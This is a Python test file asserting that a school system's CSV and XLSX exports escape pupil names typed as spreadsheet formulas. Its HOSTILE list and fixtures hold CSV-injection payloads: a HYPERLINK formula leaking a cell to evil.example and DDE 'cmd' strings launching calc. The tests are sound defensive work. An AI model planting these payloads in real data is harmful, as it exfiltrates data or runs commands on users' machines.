"""Exports are safe to open (issue 12): a name typed as a formula never runs in Excel.

OWASP's CSV-injection rule: a cell starting ``=``, ``+``, ``-``, ``@``, tab or carriage
return gets a leading apostrophe in CSV; in XLSX such text is a string cell, never a
formula. The import keeps the name exactly as typed. The files are read back the way a
spreadsheet reads them: the CSV with the csv module, the XLSX's sheet XML for ``<f>``.
"""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest

from sendesk.cli import main
from sendesk.db import open_database
from sendesk.reports.access_list import write_access_list
from sendesk.reports.tabular import csv_cell
from sendesk.rules.upn import make
from sendesk.services.access.records import ExamsRow
from tests.cli_run import init_hill_school

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
]


def _live_formulas(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        return sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in sheets)


def _xlsx_texts(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("-3", "-3"),  # a plain number stays a number
        ("+2.5", "+2.5"),
        ("Zoë O'Neill", "Zoë O'Neill"),
        ("", ""),
        (date(2025, 12, 31), "31/12/2025"),
    ],
)
def test_csv_cell(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


def test_register_exports_of_hostile_names_hold_no_live_formula(
    tmp_path: Path,
    raw_key: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    db = tmp_path / "school.db"
    init_hill_school(monkeypatch, raw_key, db)
    upns = [make(801, 2000, 24, serial) for serial in range(1, len(HOSTILE) + 1)]
    source = tmp_path / "export.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["UPN", "Legal Surname", "Legal Forename", "DOB", "Gender", "Year"])
        for i, (upn, name) in enumerate(zip(upns, HOSTILE, strict=True)):
            out.writerow([upn, name, "Kim", f"2012-0{i + 1}-01", "F", "8"])
    capsys.readouterr()
    code = main(["import-pupils", "--db", str(db), str(source)])
    assert code == 0, capsys.readouterr().err

    # The import keeps every name exactly as typed.
    opened = open_database(str(db), raw_key)
    try:
        with opened.reading() as read:
            stored = sorted(name for (name,) in read.rows("SELECT legal_surname FROM pupil"))
    finally:
        opened.dispose()
    assert stored == sorted(HOSTILE)

    for form in ("csv", "xlsx"):
        out_file = str(tmp_path / f"r.{form}")
        assert (
            main(["register", "--db", str(db), "--all", "--format", form, "--out", out_file]) == 0
        )
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    for name in HOSTILE:
        assert not any(cell.startswith(name) for cell in cells)
        assert any(cell.startswith("'" + name) or ("'" + name) in cell for cell in cells), name
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c[1:2] == "2")]
    assert _live_formulas(tmp_path / "r.xlsx") == 0
    texts = _xlsx_texts(tmp_path / "r.xlsx")
    assert "HYPERLINK" in texts  # the name is there, as text


def test_exams_officers_list_has_no_live_formula(tmp_path: Path) -> None:
    rows = [
        ExamsRow(
            pupil_id=i,
            pupil_name=name,
            upn="H801200001001",
            year_group=11,
            arrangements=("25% extra time",),
            subjects="=cmd|' /C calc'!A0",
            extra_time_percent=25,
            room="@room",
            approved_on=date(2026, 1, 5),
            expires_on=date(2028, 3, 5),
        )
        for i, name in enumerate(HOSTILE)
    ]
    write_access_list(rows, tmp_path / "aa.xlsx", "xlsx", school="=Hill", today=date(2026, 12, 7))
    write_access_list(rows, tmp_path / "aa.csv", "csv", school="=Hill", today=date(2026, 12, 7))
    assert _live_formulas(tmp_path / "aa.xlsx") == 0
    with (tmp_path / "aa.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
